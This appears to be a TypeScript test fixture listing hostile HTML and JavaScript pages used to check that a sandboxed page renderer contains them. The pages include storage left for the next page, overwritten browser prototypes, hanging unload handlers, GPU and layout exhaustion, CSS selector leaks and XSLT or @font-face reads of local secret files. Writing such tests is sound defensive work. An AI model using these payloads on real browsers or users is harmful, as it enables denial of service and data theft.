import type { HostileProgram, MakeHostilePrograms } from '../../../port/samples.ts';
import { endless, reached, reachedWith, refused, script } from './hostile-source.ts';

const attack = (
  code: string,
  endings: HostileProgram['endings'] = { ok: reached },
  next?: HostileProgram,
): HostileProgram => ({ code: script(code), endings, ...(next && { next }) });
const leaving = (code: string, next: HostileProgram): HostileProgram => attack(code, { ok: reached }, next);

/** Paints in magenta where the expression is true, now or once a promise says so. A failure is told. */
const looking = (expression: string): HostileProgram =>
  attack(
    `Promise.resolve().then(() => ${expression}).then((found) => { if (found) document.body.style.background = 'magenta'; reached() }, (error) => reached(error.name))`,
  );

/** Pages that leave something for the next one, or spoil the browser's own work on the page. */
export const htmlLeft: MakeHostilePrograms = ({ port, folder }) => ({
  'storage left': leaving(
    "reached(); for (const store of [() => { localStorage.left = 1 }, () => { sessionStorage.left = 1 }]) try { store() } catch {} document.cookie = 'left=1; max-age=99999'; name = 'left'",
    looking(
      '(() => { try { if (localStorage.left || sessionStorage.left) return true } catch {} return document.cookie || name })()',
    ),
  ),
  'a database left': leaving(
    "const opening = indexedDB.open('left'); opening.onupgradeneeded = (e) => e.target.result.createObjectStore('s').put(1, 1); opening.onsuccess = () => reached()",
    looking('indexedDB.databases().then((all) => all.some(({ name }) => name === "left"))'),
  ),
  // No secure context, so there are no such interfaces.
  'a cache left': attack(
    "reached(typeof caches); if (typeof caches === 'object') caches.open('left').then((c) => c.put('/x', new Response('x')))",
    { ok: reachedWith('undefined') },
    looking("typeof caches === 'object' && caches.has('left')"),
  ),
  'a service worker of its own address': attack(
    "reached(typeof navigator.serviceWorker); navigator.serviceWorker?.register('/sw.js', { scope: '/' }).then(() => { document.body.style.background = 'magenta' }, () => 0)",
    { ok: reachedWith('undefined') },
    looking('navigator.serviceWorker?.getRegistrations().then((all) => all.length > 0)'),
  ),
  'locks held': attack(
    "reached(typeof navigator.locks); navigator.locks?.request('left', () => new Promise(() => {}))",
    { ok: reachedWith('undefined') },
    looking('navigator.locks?.query().then(({ held }) => held.length > 0)'),
  ),
  'a channel kept open': leaving(
    "const c = new BroadcastChannel('left'); setInterval(() => c.postMessage(1), 1); c.onmessage = () => c.postMessage(1); reached()",
    attack(
      "new BroadcastChannel('left').onmessage = () => { document.body.style.background = 'magenta' }; const end = performance.now() + 500; while (performance.now() < end); reached()",
    ),
  ),
  'a shared worker left': leaving(
    'const u = URL.createObjectURL(new Blob(["onconnect = (e) => e.ports[0].postMessage(self.n = (self.n || 0) + 1); setInterval(() => { for (let i = 0; i < 1e6; i++); }, 0)"])); new SharedWorker(u, "left"); reached()',
    attack(
      "new SharedWorker('data:text/javascript,', 'left').port.onmessage = () => { document.body.style.background = 'magenta' }; reached()",
    ),
  ),
  'a window kept open': leaving(
    "const w = window.open('about:blank', 'left', 'width=9'); setInterval(() => w && w.focus(), 1); opener && opener.close(); reached()",
    looking("opener || window.open('', 'left')?.location.href.includes('left')"),
  ),
  'functions of the browser replaced': leaving(
    `reached(); for (const owner of [Promise.prototype, Document.prototype, Element.prototype, Object.prototype, Array.prototype, Function.prototype])
      for (const name of Object.getOwnPropertyNames(owner)) try { if (name !== 'constructor') owner[name] = () => { throw new Error('x') } } catch {}`,
    attack('document.body.append([1, 2].map(String).join()); reached()'),
  ),
  'a promise of fonts that never comes': attack(
    "Object.defineProperty(document, 'fonts', { value: { ready: new Promise(() => {}) } }); requestAnimationFrame = () => 0; setTimeout = () => 0; reached()",
  ),
  'a page without a root': attack(
    'reached(); document.documentElement.remove(); document.open(); document.close(); document.removeChild(document.lastChild)',
    { ok: reached },
  ),
  'a page that never ends its loading': {
    code: `<h1>hello</h1><img src="http://127.0.0.1:${port}/slow"><script>document.write('<script src="http://127.0.0.1:${port}/x"></scr' + 'ipt>'); stop()</script>`,
    endings: { ok: refused(`http://127.0.0.1:${port}/slow`, `http://127.0.0.1:${port}/x`) },
  },
  'dialogs on the way out': attack(
    'onbeforeunload = (e) => { e.preventDefault(); alert(1); while (true); }; onunload = onpagehide = () => { while (true); }; reached()',
  ),
  'a breakpoint': attack(
    'debugger; setInterval(() => { debugger }, 0); console.profile(); console.profileEnd(); debug = monitor = 1; reached()',
  ),
  'a page that waits on itself': attack(
    `const memory = new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true }); try { Atomics.wait(new Int32Array(memory.buffer), 0, 0) } catch (error) { reached(encodeURIComponent(error.message)) }`,
    { ok: /http:\/\/reached\.invalid\/Atomics\.wait%20cannot%20be%20called/ },
  ),
  'a worker that waits forever': attack(
    `const work = () => { const { buffer } = new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true }); reached(); Atomics.wait(new Int32Array(buffer), 0, 0) }; const u = URL.createObjectURL(new Blob([reached, '(', work, ')()'])); new Worker(u).onerror = (event) => { throw new TypeError(event.message) }`,
    endless,
  ),
  'elements within elements': attack(
    "reached(); let at = document.body; for (let i = 0; i < 200000; i++) at = at.appendChild(document.createElement('div')); at.append('deep')",
    { memory: reached },
  ),
  'rules that match everything': {
    code: `<style>${Array.from({ length: 3000 }, (_, i) => `body:has(div:nth-child(${i}n+1 of :not(.x))) ~ * *:not(:has(*:hover)) { color: red }`).join('')}</style>${'<div><p>x</p></div>'.repeat(5000)}<img src="http://reached.invalid/">`,
    endings: endless,
  },
  'a grid of a billion cells': {
    code: '<div style="display:grid;grid-template:repeat(1000000,1px)/repeat(1000000,1px);background:url(http://reached.invalid/)"><p style="grid-area:999999/999999">x</p></div>',
    endings: { ok: reached },
  },
  'a table that spans without end': {
    code: `<table border>${'<tr>' + '<td colspan="1000" rowspan="65534">x</td>'.repeat(500) + '</tr>'.repeat(300)}</table><img src="http://reached.invalid/">`,
    endings: { ok: reached },
  },
  'a drawing of the graphics card': attack(
    "const g = document.body.appendChild(document.createElement('canvas')).getContext('webgl'); const s = g.createShader(g.FRAGMENT_SHADER); g.shaderSource(s, 'precision highp float; void main() { float x = 0.; for (int i = 0; i < 100000000; i++) x += sin(float(i)); gl_FragColor = vec4(x); }'); g.compileShader(s); reached(); for (;;) { const b = g.createBuffer(); g.bindBuffer(g.ARRAY_BUFFER, b); g.bufferData(g.ARRAY_BUFFER, 1e8, g.STATIC_DRAW) }",
    endless,
  ),
  'style that asks letter by letter': {
    code: `<style>input[value^="a"] { background: url(http://127.0.0.1:${port}/a) } input { list-style: url(http://127.0.0.1:${port}/c); mask: url(http://127.0.0.1:${port}/d); border-image: url(http://127.0.0.1:${port}/e) } h1 { background: image-set(url(http://127.0.0.1:${port}/b) 1x) } @namespace url(http://127.0.0.1:${port}/f); @font-face { font-family: x; src: local("x"), url(file://${folder}/secret.txt) } p::before { content: url(http://127.0.0.1:${port}/g) }</style><input value="abc"><p style="font-family:x">x<h1>hello</h1>`,
    endings: { ok: refused(...['a', 'b', 'c', 'd', 'e', 'g'].map((name) => `http://127.0.0.1:${port}/${name}`)) },
  },
  'a document transformed': attack(
    `const p = new XSLTProcessor(); const d = new DOMParser().parseFromString('<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:import href="file://${folder}/secret.svg"/><x:template match="/"><x:copy-of select="document(\\'http://127.0.0.1:${port}/\\')"/></x:template></x:stylesheet>', 'text/xml'); reached(); p.importStylesheet(d); document.body.append(p.transformToFragment(d, document))`,
  ),
  'devices and persons': attack(
    "const asked = []; for (const ask of [() => navigator.geolocation.getCurrentPosition(() => 0), () => navigator.mediaDevices.getUserMedia({ video: true }), () => navigator.clipboard.readText(), () => Notification.requestPermission(), () => document.documentElement.requestFullscreen(), () => document.body.requestPointerLock(), () => navigator.usb.requestDevice({ filters: [] }), () => showOpenFilePicker(), () => navigator.credentials.get(), () => navigator.share({ text: 'x' })]) try { const p = ask(); asked.push('asked'); p && p.catch && p.catch(() => 0) } catch (error) { asked.push(error.name) } reached(asked.join())",
    { ok: /http:\/\/reached\.invalid\/(?:(?:asked|TypeError|ReferenceError),?){10}(?:\s|$)/ },
  ),
});
